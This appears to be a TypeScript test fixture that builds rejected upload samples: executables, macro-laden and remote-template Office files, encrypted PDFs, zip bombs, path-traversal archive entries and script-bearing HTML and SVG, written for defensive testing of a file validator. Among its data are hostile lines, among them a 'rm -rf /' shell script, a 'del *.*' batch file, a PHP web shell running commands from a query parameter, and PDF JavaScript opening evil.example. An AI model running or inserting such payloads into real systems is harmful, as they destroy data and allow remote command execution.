import { createHash } from "node:crypto";
import { gzipSync } from "node:zlib";
import { madePdf, madeZip, officeParts, openParts, type ZipPart } from "./made-files.ts";

// Files that are not taken, by the reason, each as somebody could send it; and the parts from which they are made.

export const withPart = (part: ZipPart, kind: "docx" | "xlsx" | "pptx" = "docx") =>
  madeZip([...officeParts(kind), part]);
export const docx = officeParts("docx");

const relations = (one: string) => `<?xml version="1.0"?><Relationships>${one}</Relationships>`;
export const template = (target: string, type = "attachedTemplate") => ({
  name: "word/_rels/settings.xml.rels",
  content: relations(
    `<Relationship Id="r" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/>`,
  ),
});

/** A container of older Office with a stream of that name. */
const ole = (stream: string) =>
  Buffer.concat([
    Buffer.from("d0cf11e0a1b11ae1", "hex"),
    Buffer.alloc(16),
    Buffer.from("3e000300feff0900", "hex"),
    Buffer.alloc(480),
    Buffer.from(stream, "utf16le"),
    Buffer.alloc(1024),
  ]);

export const exe = Buffer.concat([Buffer.from("MZ\u0090\u0000\u0003", "latin1"), Buffer.alloc(400)]);
const elf = Buffer.concat([Buffer.from("7f454c4602010100", "hex"), Buffer.alloc(400)]);
const script = "app.launchURL('https://evil.example')";

export const programs: Record<string, Buffer | string> = {
  "of Windows": exe,
  "of Linux": elf,
  "of a Mac": Buffer.concat([Buffer.from("cffaedfe07000001", "hex"), Buffer.alloc(400)]),
  "of Java": Buffer.from("cafebabe00000034", "hex"),
  "in WebAssembly": Buffer.from("0061736d01000000", "hex"),
  "a script of a shell": "#!/bin/sh\nrm -rf /\n",
  "a batch of Windows": "@echo off\r\ndel *.*\r\n",
  "a script of a server": "<?php system($_GET['a']); ?>",
  "changes of a registry": "Windows Registry Editor Version 5.00\r\n",
  "a link of the Internet": "[InternetShortcut]\r\nURL=file:///c:/a.exe\r\n",
};

export const macros: Record<string, Buffer> = {
  "in Word": withPart({ name: "word/vbaProject.bin", content: ole("_VBA_PROJECT") }),
  "in Word, in other letters": withPart({ name: "WORD/VBAPROJECT.BIN", content: "x" }),
  "in Excel": withPart({ name: "xl/vbaProject.bin", content: "x" }, "xlsx"),
  "in Excel of 1992": withPart({ name: "xl/macrosheets/sheet1.xml", content: "<x/>" }, "xlsx"),
  "in PowerPoint": withPart({ name: "ppt/vbaProject.bin", content: "x" }, "pptx"),
  "by its type, under the name of none": madeZip(
    docx.map((part) =>
      part.name === "[Content_Types].xml"
        ? {
            ...part,
            content: String(part.content).replace(
              "openxmlformats-officedocument.wordprocessingml.document",
              "ms-word.document.macroEnabled",
            ),
          }
        : part,
    ),
  ),
  "in OpenDocument": madeZip([...openParts("odt"), { name: "Basic/Standard/Module1.xml", content: "<x/>" }]),
  "scripts in OpenDocument": madeZip([...openParts("ods"), { name: "Scripts/python/a.txt", content: "x" }]),
  "of a template elsewhere": withPart(template("https://evil.example/a.dotm")),
  "of a template on a share": withPart(template("\\\\evil.example\\a.dotm")),
  "of an object elsewhere": withPart(template("https://evil.example/a", "oleObject")),
  "in a table behind a chart": withPart({
    name: "word/embeddings/Microsoft_Excel_Sheet1.xlsx",
    content: withPart({ name: "xl/vbaProject.bin", content: "x" }, "xlsx"),
  }),
  "in an object of older Office": withPart({ name: "word/embeddings/oleObject1.bin", content: ole("_VBA_PROJECT") }),
  "in a PDF": madePdf(1, {
    more: "/Names << /JavaScript << /Names [(a) 3 0 R] >> >>",
    objects: [`<< /S /JavaScript /JS (${script}) >>`],
  }),
  "in a PDF, as it opens": madePdf(1, { more: "/OpenAction 3 0 R", objects: [`<< /S /JavaScript /JS (${script}) >>`] }),
};

export const locked: Record<string, Buffer> = {
  "Office of today": ole("EncryptedPackage"),
  OpenDocument: madeZip(
    openParts("odt").map((part) =>
      part.name === "META-INF/manifest.xml"
        ? { ...part, content: "<manifest:manifest><manifest:encryption-data/></manifest:manifest>" }
        : part,
    ),
  ),
  "a zip": madeZip(docx.map((part) => ({ ...part, said: { flags: 0x0801 } }))),
  PDF: madePdf(1, {
    trailer: `/Encrypt << /Filter /Standard /V 1 /R 2 /P -44 /O <${"41".repeat(32)}> /U <${"42".repeat(32)}> >> /ID [<41><41>]`,
  }),
};

/** Encrypted under the empty password, by the oldest of its rules: every reader opens it. */
export const forbidsCopying = (() => {
  const pad = Buffer.from("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a", "hex");
  const owner = Buffer.alloc(32, 7);
  const rights = Buffer.from("d4ffffff", "hex");
  const key = createHash("md5").update(pad).update(owner).update(rights).update("A").digest().subarray(0, 5);
  const user = rc4(key, pad);
  const entry = `/Encrypt << /Filter /Standard /V 1 /R 2 /P -44 /O <${owner.toString("hex")}> /U <${user.toString("hex")}> >> /ID [<41><41>]`;
  return madePdf(2, { trailer: entry });
})();

function rc4(key: Buffer, bytes: Buffer): Buffer {
  const box = Array.from({ length: 256 }, (_, at) => at);
  let [i, j] = [0, 0];
  const swap = (more: number) => {
    j = (j + (box[i] ?? 0) + more) % 256;
    [box[i], box[j]] = [box[j] as number, box[i] as number];
  };
  for (i = 0; i < 256; i += 1) swap(key[i % key.length] ?? 0);
  [i, j] = [0, 0];
  return bytes.map((byte) => {
    i = (i + 1) % 256;
    swap(0);
    return byte ^ (box[((box[i] ?? 0) + (box[j] ?? 0)) % 256] ?? 0);
  }) as Buffer;
}

const zeros = Buffer.alloc(80 * 1024 * 1024);
export const bombs: Record<string, Buffer> = {
  "zeros of 80 MB in a part": withPart({ name: "word/media/a.bmp", content: zeros }),
  "a part that is said to be 3 GB": withPart({ name: "word/a.xml", content: "x", said: { bytes: 3_000_000_000 } }),
  "30,000 parts": madeZip([...docx, ...Array.from({ length: 30_000 }, (_, at) => ({ name: `a/${at}`, content: "" }))]),
  "a list of types of 20 MB": madeZip(
    docx.map((part) => (part.name === "[Content_Types].xml" ? { ...part, content: Buffer.alloc(20e6, " ") } : part)),
  ),
};

export const lying: Record<string, Buffer> = {
  "a part that says it is smaller": withPart({
    name: "word/a.xml",
    content: Buffer.alloc(1e6, "x"),
    said: { bytes: 10 },
  }),
  "two parts of one name": madeZip([...docx, ...docx.slice(2)]),
  "a part with a path upwards": withPart({ name: "../../etc/passwd", content: "x" }),
  "a part with the path of a disk": withPart({ name: "C:/a.xml", content: "x" }),
  "a part packed in an unknown way": withPart({ name: "word/a.xml", content: "x", said: { method: 99 } }),
  "no part at all": madeZip([]),
};

export const archives: Record<string, Buffer> = {
  "a zip of texts": madeZip([{ name: "a.txt", content: "a" }]),
  gzip: gzipSync("a".repeat(1000)),
  "7z": Buffer.concat([Buffer.from("377abcaf271c0004", "hex"), Buffer.alloc(100)]),
  rar: Buffer.concat([Buffer.from("526172211a0700", "hex"), Buffer.alloc(100)]),
  bzip2: Buffer.concat([Buffer.from("BZh91AY&SY"), Buffer.alloc(100)]),
  xz: Buffer.concat([Buffer.from("fd377a585a00", "hex"), Buffer.alloc(100)]),
};

export const pages: Record<string, Buffer | string> = {
  "a page": "<!DOCTYPE html><html><body onload=alert(1)>",
  "a page without its beginning": "<body><script>alert(1)</script>",
  "a page after a remark": "<!-- a -->\n<script>alert(1)</script>",
  "a page after spaces": `${" \n".repeat(300)}<html>`,
  "a drawing": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  "a drawing in XML": '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
  "a page in UTF-16": Buffer.concat([
    Buffer.from("fffe", "hex"),
    Buffer.from("<html><script>alert(1)</script>", "utf16le"),
  ]),
  "a page as a letter": "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=a\n\n<html>",
};

export const within: Record<string, Buffer | string> = {
  "a program in Word": withPart({ name: "word/media/a.exe", content: exe }),
  "a program under another name": withPart({ name: "word/media/image1.png", content: exe }),
  "a program in an object": withPart({ name: "word/embeddings/oleObject1.bin", content: ole("\u0001Ole10Native") }),
  "a script in OpenDocument": madeZip([...openParts("odp"), { name: "Pictures/a.js", content: "x" }]),
  "an object in RTF": "{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}",
  "a program in a PDF": madePdf(1, {
    more: "/Names << /EmbeddedFiles << /Names [(run.exe) 3 0 R] >> >>",
    objects: [
      "<< /Type /Filespec /F (run.exe) /UF (run.exe) /EF << /F 4 0 R >> >>",
      "<< /Length 2 >>\nstream\nMZ\nendstream",
    ],
  }),
};

export const others: Record<string, Buffer> = {
  "older Office": ole("WordDocument"),
  "a film": Buffer.concat([Buffer.from("000000186674797069736f6d", "hex"), Buffer.alloc(64)]),
  sound: Buffer.concat([Buffer.from("ID3\u0004", "latin1"), Buffer.alloc(64)]),
  "a picture that moves": Buffer.from("GIF89a\u0001\u0000\u0001\u0000", "latin1"),
  "bytes without sense": Buffer.from(Array.from({ length: 500 }, (_, at) => (at * 37) % 251)),
  "a template": madeZip(
    docx.map((part) => ({ ...part, content: String(part.content).replace("document.main+xml", "template.main+xml") })),
  ),
};
